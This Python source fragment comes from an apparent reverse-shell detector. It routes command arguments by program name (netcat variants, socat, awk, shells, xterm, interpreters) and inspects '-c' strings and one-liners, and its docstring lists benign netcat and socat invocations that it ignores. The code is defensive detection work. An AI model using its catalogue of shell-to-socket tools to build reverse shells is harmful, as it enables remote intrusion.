def _argv_findings(argv: list[str], depth: int) -> list[Finding]:
    if depth > MAX_DEPTH:
        return []
    words = unwrap_launchers(argv)
    if not words:
        return []
    name = _program(words)
    if name in SHELLS:
        script = _shell_script_operand(words)
        return _script_findings(script, depth) if script is not None else []
    if name in NETCATS:
        return _netcat_findings(words)
    if name == "socat":
        return _socat_findings(words)
    if name in ("awk", "gawk", "nawk", "mawk"):
        program = _awk_program(words[1:])
        return _awk_findings(program) if program else []
    if name in ("script", "su", "runuser"):
        command = _dash_c_value(words[1:])
        return _script_findings(command, depth) if command is not None else []
    if name == "xterm":
        return _xterm_findings(words)
    language = _language(name)
    if language is not None:
        code = _inline_code(language, words[1:])
        return _code_findings(language, code, depth) if code else []
    return []


def classify_reverse_shell(argv: Sequence[str]) -> list[Finding]:
    """Findings of type reverse_shell for an argv that hands a shell to a socket.

    Looks inside `sh -c` / `bash -c` strings and interpreter one-liners.
    Evidence names the matched pattern, reverse or bind mode, and the target
    host/port when the text gives them. Port checks (`nc -z`), listeners
    without -e (`nc -l 8080`), relays (`socat TCP-LISTEN:80,fork TCP:h:8080`)
    and scripts run from files are not shells and give nothing."""
    return dedupe_findings(_argv_findings(_as_argv(argv), 0))
